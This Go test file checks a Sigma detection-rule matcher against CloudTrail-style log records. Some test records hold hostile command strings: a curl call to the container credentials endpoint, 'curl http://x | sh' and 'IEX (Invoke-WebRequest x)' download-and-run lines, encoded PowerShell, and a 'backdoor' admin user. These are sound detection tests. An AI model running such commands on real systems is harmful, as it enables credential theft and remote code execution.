package sigma

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

// matchCase is a record fragment (record) and whether the rule fires on it.
type matchCase struct {
	rule   string
	record string
	want   bool
}

// runMatchCases checks each case with every way of reading the record (verdicts).
func runMatchCases(t *testing.T, file string, o Options, cases []matchCase) {
	t.Helper()
	rs := mustLoad(t, o, file)
	tested := map[string]bool{}
	for _, c := range cases {
		r, ok := byID(t, rs, c.rule).(*plainRule)
		if !ok {
			t.Fatalf("%s is not a plain rule", c.rule)
		}
		tested[c.rule] = true
		got := verdicts(r, record(t, c.record))
		for i, g := range got {
			if g != c.want {
				t.Errorf("%s on %s: %v (way %d of %v), want %v", c.rule, c.record, g, i, got, c.want)
				break
			}
		}
	}
	// Every rule of the file has cases, positive and negative.
	for _, r := range rs {
		id := strings.TrimPrefix(r.Info().ID, IDPrefix)
		pos, neg := false, false
		for _, c := range cases {
			if c.rule == id {
				pos, neg = pos || c.want, neg || !c.want
			}
		}
		if !pos || !neg {
			t.Errorf("rule %s lacks a record it fires on or one it does not", id)
		}
	}
}

func TestValues(t *testing.T) {
	runMatchCases(t, "testdata/match/values.yml", Options{}, []matchCase{
		{"v-plain", `{"eventName": "DeleteBucket"}`, true},
		{"v-plain", `{"eventName": "deletebucket"}`, true},
		{"v-plain", `{"eventName": "DeleteBuckets"}`, false},
		{"v-cased", `{"eventName": "DeleteBucket"}`, true},
		{"v-cased", `{"eventName": "deleteBucket"}`, false},
		{"v-list", `{"eventName": "StopLogging"}`, true},
		{"v-list", `{"eventName": "DeleteTrail"}`, true},
		{"v-list", `{"eventName": "StartLogging"}`, false},
		{"v-map", `{"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging"}`, true},
		{"v-map", `{"eventSource": "iam.amazonaws.com", "eventName": "StopLogging"}`, false},
		{"v-list-of-maps", `{"eventSource": "s3.amazonaws.com", "eventName": "DeleteBucket"}`, true},
		{"v-list-of-maps", `{"eventSource": "iam.amazonaws.com", "eventName": "DeleteUser"}`, true},
		{"v-list-of-maps", `{"eventSource": "s3.amazonaws.com", "eventName": "DeleteUser"}`, false},
		{"v-wildcards", `{}`, true},
		{"v-wildcards", `{"userAgent": "aws-cli/1.2"}`, false},
		{"v-wildcards", `{"sourceIPAddress": "203.0.113.245"}`, false}, // ? is one character
		{"v-escaped", `{"requestParameters": {"policyName": "star*and?mark"}}`, true},
		{"v-escaped", `{"requestParameters": {"policyName": "starXandYmark"}}`, false},
		{"v-backslash", `{"requestParameters": {"path": "C:\\Windows\\x"}}`, true},
		{"v-backslash", `{"requestParameters": {"path": "C:Windows"}}`, false},
		{"v-null", `{"eventName": "DeleteBucket"}`, true},
		{"v-null", `{"eventName": "DeleteBucket", "errorCode": null}`, true},
		{"v-null", `{"eventName": "DeleteBucket", "errorCode": "AccessDenied"}`, false},
		{"v-null", `{"eventName": "DeleteBucket", "errorCode": ""}`, false}, // empty is not null
		{"v-null-or", `{"eventName": "DeleteBucket", "errorCode": "Success"}`, true},
		{"v-null-or", `{"eventName": "DeleteBucket"}`, true},
		{"v-null-or", `{"eventName": "DeleteBucket", "errorCode": "NoSuchBucket"}`, false},
		{"v-not-null", `{"eventName": "DeleteBucket", "errorCode": "NoSuchBucket"}`, true},
		{"v-not-null", `{"eventName": "DeleteBucket"}`, false},
		{"v-empty", `{"requestParameters": {"userName": ""}}`, true},
		{"v-empty", `{"requestParameters": {}}`, false},
		{"v-empty", `{"requestParameters": {"userName": "x"}}`, false},
		{"v-number", `{"requestParameters": {"maxResults": 100}}`, true},
		{"v-number", `{"requestParameters": {"maxResults": "100"}}`, true},
		{"v-number", `{"requestParameters": {"maxResults": 1000}}`, false},
		{"v-bool", `{"responseElements": {"publiclyAccessible": true}}`, true},
		{"v-bool", `{"responseElements": {"publiclyAccessible": "True"}}`, true},
		{"v-bool", `{"responseElements": {"publiclyAccessible": false}}`, false},
		{"v-bool-string", `{"responseElements": {"publiclyAccessible": true}}`, true},
		{"v-bool-string", `{"responseElements": {"publiclyAccessible": false}}`, false},
		{"v-array-path", `{"requestParameters": {"containerDefinitions": [{"command": ["sh"]},
			{"command": ["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]}}`, true},
		{"v-array-path", `{"requestParameters": {"containerDefinitions": [{"command": ["sh", "-c", "env"]}]}}`, false},
		{"v-array-field", `{"requestParameters": {"layers": ["arn:aws:lambda:us-east-1:1:layer:ok:3", "arn:aws:lambda:us-east-1:666:layer:evil:1"]}}`, true},
		{"v-array-field", `{"requestParameters": {"layers": ["arn:aws:lambda:us-east-1:1:layer:ok:3"]}}`, false},
		{"v-object-field", `{"eventName": "PutBucketVersioning", "requestParameters": {"bucketName": "b", "VersioningConfiguration": {"Status": "Suspended"}}}`, true},
		{"v-object-field", `{"eventName": "PutBucketVersioning", "requestParameters": {"bucketName": "b", "VersioningConfiguration": {"Status": "Enabled"}}}`, false},
		{"v-deep", `{"userIdentity": {"type": "AssumedRole", "sessionContext": {"attributes": {"mfaAuthenticated": "false"}, "sessionIssuer": {"type": "Role", "userName": "r"}}}}`, true},
		{"v-deep", `{"userIdentity": {"type": "AssumedRole", "sessionContext": {"sessionIssuer": {"type": "User"}}}}`, false},
		{"v-deep", `{}`, false},
		{"v-fast-and-raw", `{}`, true},
		{"v-fast-and-raw", `{"requestParameters": {"userName": "alice"}}`, false},
		{"v-fast-and-raw", `{"eventSource": "sts.amazonaws.com"}`, false},
	})
}

func TestModifiers(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	wide := func(s string) string {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return base64.StdEncoding.EncodeToString(b)
	}
	o := Options{Placeholders: map[string][]string{"Administrators": {"root-admin", "break-glass*"}, "Accounts": {"111111111111", "222222222222"}}}
	runMatchCases(t, "testdata/match/modifiers.yml", o, []matchCase{
		{"m-contains", `{"userAgent": "trufflehog v3.63"}`, true},
		{"m-contains", `{"userAgent": "aws-cli/2"}`, false},
		{"m-startswith", `{"eventName": "UpdateFunctionConfiguration20150331v2"}`, true},
		{"m-startswith", `{"eventName": "GetFunctionConfiguration"}`, false},
		{"m-endswith", `{"userIdentity": {"type": "Root", "arn": "arn:aws:iam::123456789012:root"}}`, true},
		{"m-endswith", `{}`, false},
		{"m-contains-backslash", `{"requestParameters": {"path": "D:\\x;C:\\Temp\\evil.exe"}}`, true},
		{"m-contains-backslash", `{"requestParameters": {"path": "C:\\Temp"}}`, false},
		{"m-contains-all", `{"requestParameters": {"policyDocument": "{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":[\"s3:GetObject\"],\"Resource\":\"arn:aws:s3:::bkt/*\"}]}"}}`, true},
		{"m-contains-all", `{"requestParameters": {"policyDocument": "{\"Statement\":[{\"Effect\":\"Deny\",\"Action\":[\"s3:GetObject\"],\"Resource\":\"arn:aws:s3:::bkt/*\"}]}"}}`, false},
		{"m-contains-all", `{"requestParameters": {"policyDocument": "{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::bkt\"}"}}`, false},
		{"m-all-array", `{"requestParameters": {"layers": ["arn:x:layer:a:1", "arn:x:layer:b:1"]}}`, true},
		{"m-all-array", `{"requestParameters": {"layers": ["arn:x:layer:a:1"]}}`, false},
		{"m-re", `{"userIdentity": {"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0abc"}}`, true},
		{"m-re", `{"userIdentity": {"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/admin/bob"}}`, false},
		{"m-re-cased", `{"userAgent": "Boto3/1.34.2 Python/3.11"}`, true},
		{"m-re-cased", `{"userAgent": "boto3/1.34.2 Python/3.11"}`, false},
		{"m-re-i", `{"userAgent": "BOTO3/1.34.2"}`, true},
		{"m-re-i", `{"userAgent": "aws-sdk-go"}`, false},
		{"m-re-m", `{"requestParameters": {"userData": "#!/bin/sh\ncurl x | sh\n"}}`, true},
		{"m-re-m", `{"requestParameters": {"userData": "#!/bin/sh curl x"}}`, false},
		{"m-re-s", `{"requestParameters": {"userData": "#!/bin/bash\ncurl x"}}`, true},
		{"m-re-s", `{"requestParameters": {"userData": "#!/bin/sh\ncurl x"}}`, false},
		{"m-cidr4", `{"sourceIPAddress": "10.1.2.3"}`, true},
		{"m-cidr4", `{"sourceIPAddress": "192.168.1.200"}`, true},
		{"m-cidr4", `{"sourceIPAddress": "192.168.2.1"}`, false},
		{"m-cidr4", `{"sourceIPAddress": "::ffff:10.0.0.1"}`, true}, // an IPv4 address written as IPv6
		{"m-cidr4", `{"sourceIPAddress": "AWS Internal"}`, false},
		{"m-cidr6", `{"sourceIPAddress": "2001:db8:1::7"}`, true},
		{"m-cidr6", `{"sourceIPAddress": "2001:db9::1"}`, false},
		{"m-cidr6", `{"sourceIPAddress": "10.0.0.1"}`, false},
		{"m-exists", `{"errorCode": "AccessDenied"}`, true},
		{"m-exists", `{"errorCode": null}`, true}, // present, if null
		{"m-exists", `{}`, false},
		{"m-not-exists", `{}`, true},
		{"m-not-exists", `{"additionalEventData": {"MFAUsed": "No"}}`, false},
		{"m-fieldref", `{"eventName": "CreateAccessKey", "requestParameters": {"userName": "bob"}}`, true},
		{"m-fieldref", `{"eventName": "CreateAccessKey", "requestParameters": {"userName": "ALICE"}}`, false}, // case-insensitive
		{"m-fieldref", `{"eventName": "CreateAccessKey", "requestParameters": {}}`, true},                     // nothing to compare: not equal
		{"m-fieldref-endswith", `{"requestParameters": {"userName": "alice"}}`, true},
		{"m-fieldref-endswith", `{"requestParameters": {"userName": "ali"}}`, false},
		{"m-fieldref-contains", `{"requestParameters": {"userName": "user/al"}}`, true},
		{"m-fieldref-contains", `{"requestParameters": {"userName": "bob"}}`, false},
		{"m-base64", `{"requestParameters": {"userData": "` + b64("#!/bin/bash") + `"}}`, true},
		{"m-base64", `{"requestParameters": {"userData": "` + b64("#!/bin/bash\necho") + `"}}`, false}, // base64 alone is the whole value
		{"m-base64offset", `{"requestParameters": {"userData": "` + b64("#!/bin/sh\ncurl http://x | sh") + `"}}`, true},
		{"m-base64offset", `{"requestParameters": {"userData": "` + b64("x#!/bin/sh\ncurl http://x | sh") + `"}}`, true},
		{"m-base64offset", `{"requestParameters": {"userData": "` + b64("xy#!/bin/sh\ncurl http://x | sh") + `"}}`, true},
		{"m-base64offset", `{"requestParameters": {"userData": "` + b64("#!/bin/sh\nwget http://x | sh") + `"}}`, false},
		{"m-base64offset", `{"requestParameters": {"userData": "curl http://x"}}`, false},
		{"m-wide", `{"requestParameters": {"script": "` + wide("IEX (Invoke-WebRequest x)") + `"}}`, true},
		{"m-wide", `{"requestParameters": {"script": "` + b64("IEX (Invoke-WebRequest x)") + `"}}`, false},
		{"m-windash", `{"requestParameters": {"commandLine": "powershell -enc AAA"}}`, true},
		{"m-windash", `{"requestParameters": {"commandLine": "powershell /enc AAA"}}`, true},
		{"m-windash", `{"requestParameters": {"commandLine": "powershell \u2013enc AAA"}}`, true},
		{"m-windash", `{"requestParameters": {"commandLine": "powershell +enc AAA"}}`, false},
		{"m-expand", `{"userIdentity": {"type": "IAMUser", "userName": "root-admin"}}`, true},
		{"m-expand", `{"userIdentity": {"type": "IAMUser", "userName": "break-glass-2"}}`, true},
		{"m-expand", `{"userIdentity": {"type": "IAMUser", "userName": "alice"}}`, false},
		{"m-expand-inside", `{"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::222222222222:user/x"}}`, true},
		{"m-expand-inside", `{"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::333333333333:user/x"}}`, false},
		{"m-neq", `{"eventName": "ConsoleLogin", "responseElements": {"ConsoleLogin": "Failure"}}`, true},
		{"m-neq", `{"eventName": "ConsoleLogin", "responseElements": {"ConsoleLogin": "Success"}}`, false},
		{"m-neq", `{"eventName": "ConsoleLogin", "responseElements": null}`, false}, // no value is not another value
		{"m-gt", `{"requestParameters": {"maxResults": 101}}`, true},
		{"m-gt", `{"requestParameters": {"maxResults": "250"}}`, true},
		{"m-gt", `{"requestParameters": {"maxResults": 100}}`, false},
		{"m-gt", `{"requestParameters": {"maxResults": "many"}}`, false},
		{"m-lte", `{"requestParameters": {"maxResults": 10}}`, true},
		{"m-lte", `{"requestParameters": {"maxResults": 11}}`, false},
		{"m-keywords", `{"userAgent": "Pacu/1.2 (attack)"}`, true},
		{"m-keywords", `{"requestParameters": {"tags": [{"key": "project", "value": "CloudGoat"}]}}`, true},
		{"m-keywords", `{}`, false},
		{"m-keywords-all", `{"eventName": "AttachUserPolicy", "requestParameters": {"userName": "backdoor", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}}`, true},
		{"m-keywords-all", `{"eventName": "AttachUserPolicy", "requestParameters": {"userName": "ci", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}}`, false},
	})
}

func TestConditions(t *testing.T) {
	// f returns a record whose fields a..e named in on are "1".
	f := func(on string) string {
		var parts []string
		for _, c := range on {
			parts = append(parts, `"`+string(c)+`": "1"`)
		}
		return "{" + strings.Join(parts, ", ") + "}"
	}
	var cases []matchCase
	for rule, table := range map[string]map[string]bool{
		// or binds least, then and, then not.
		"c-precedence":     {"": false, "a": true, "ac": true, "b": true, "bc": false, "abc": true},
		"c-parens":         {"": false, "a": true, "ac": false, "b": true, "bc": false, "abc": false},
		"c-not-not":        {"": false, "a": true},
		"c-one-of":         {"": false, "a": true, "b": true, "ab": true, "ac": false, "c": false},
		"c-all-of":         {"a": false, "b": false, "ab": true, "abc": true, "c": false},
		"c-one-of-them":    {"": false, "a": true, "b": true, "c": false}, // _sel_c is not one of them
		"c-all-of-them":    {"ab": true, "a": false, "abc": true},
		"c-two-of":         {"a": false, "ab": true, "bc": true, "abc": true, "c": false},
		"c-pattern-middle": {"a": false, "ab": true, "abc": true, "c": false},
		"c-list":           {"a": false, "ab": true, "d": true, "bd": true, "": false},
		"c-upper":          {"a": true, "ab": false, "e": true, "abe": true, "": false},
	} {
		for on, want := range table {
			cases = append(cases, matchCase{rule, f(on), want})
		}
	}
	runMatchCases(t, "testdata/match/conditions.yml", Options{}, cases)
}
